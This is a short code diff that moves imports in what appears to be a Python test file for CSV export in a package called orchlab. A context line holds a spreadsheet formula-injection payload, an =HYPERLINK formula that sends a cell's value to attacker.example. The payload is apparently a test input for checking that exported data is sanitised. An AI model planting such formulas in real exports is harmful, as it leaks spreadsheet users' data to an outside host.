@@ -8,9 +8,9 @@ import csv
 import io
 from datetime import UTC, datetime
 
-from orchlab import export
-from orchlab.records import ExperimentRecord, OutboxMessage, RunMetrics, RunRecord, utcnow
-from orchlab.store import Store
+from orchlab.core.records import ExperimentRecord, OutboxMessage, RunMetrics, RunRecord, utcnow
+from orchlab.store import export
+from orchlab.store.store import Store
 
 FORMULAS = {
     "equals": '=HYPERLINK("https://attacker.example/?d="&A1,"click")',
